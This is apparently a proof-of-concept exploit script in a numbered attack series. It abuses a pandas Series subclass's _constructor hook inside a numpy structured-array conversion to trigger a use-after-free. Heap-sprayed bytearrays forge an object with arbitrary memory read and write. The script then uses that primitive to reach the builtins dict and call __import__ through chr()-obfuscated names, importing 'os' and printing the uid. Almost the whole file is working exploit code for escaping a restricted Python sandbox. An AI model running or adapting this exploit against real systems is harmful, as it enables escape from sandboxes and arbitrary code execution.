# source: pandas 1.5.3 NDFrame._constructor subclassing hook (pandas docs 'Extending pandas: subclassing'), called by Series slicing/arithmetic/abs/round/comparison; numpy 1.24 VOID_setitem reads a structured row's tuple items borrowed
# family: library code calling back into the script from inside a conversion: float(self.k[0:1]) on a pd.Series subclass runs the subclass's __init__ through _constructor
# goal: same hole as attack12bv_017_constructor_hook_slice_float.py, carried on: with the forged bytearray's read/write, put the builtins dict (read from a def's func_builtins) into a __slots__ field, then __import__ by a chr()-built name: imports 'this' (prints the Zen) and 'os' (uid shown)
import numpy as np
import pandas as pd

keep = []
hold = []


def addr_of_type(t):
    y = hash(t) % (1 << 64)
    return ((y << 4) | (y >> 60)) % (1 << 64)


BA = addr_of_type(bytearray)


def q(v):
    return (v % (1 << 64)).to_bytes(8, "little")


def boom(*a, **k):
    junk = [(n, n + 1) for n in range(300)]
    hold[0][0] = 0
    payload = q(1 << 40) + q(BA) + q(1 << 60) + q((1 << 60) + 1) + q(0) + q(0) + q(0)
    payload = payload + bytes(479 - len(payload))
    for n in range(8):
        keep.append(bytearray(payload))
    junk.clear()
    return 1.0




class K(pd.Series):
    def __init__(self, data=None, index=None):
        super().__init__(data=data, index=index)
        if len(hold) > 0 and len(keep) == 0:
            boom()

    @property
    def _constructor(self):
        return K


class A:
    def __init__(self, k):
        self.k = k

    def __float__(self):
        return float(self.k[0:1])


lst = [(A(K([2.0])), bytes(447))]
hold.append(lst)
arr = np.array(lst, dtype=[("x", "f8"), ("y", "O")])
fake = arr["y"][0]
print("fake object:", type(fake), len(fake))


def rd(addr):
    return int.from_bytes(bytes(fake[addr:addr + 8]), "little")


def wr(addr, v):
    fake[addr:addr + 8] = q(v)


def where(x):
    return int(repr(x).split("at ")[1][:-1], 16)


class Box:
    __slots__ = ("v",)


def probe():
    return 0


box = Box()
box.v = None
fn = where(probe)
bdict = rd(fn + 24)
wr(bdict, rd(bdict) + 1)
wr(where(box) + 16, bdict)
table = box.v
name = "".join(chr(c) for c in (95, 95, 105, 109, 112, 111, 114, 116, 95, 95))
imp = table[name]
print("got", imp)
mod = imp("".join(chr(c) for c in (116, 104, 105, 115)))
osm = imp("".join(chr(c) for c in (111, 115)))
print("module os:", osm, "uid", osm.getuid())
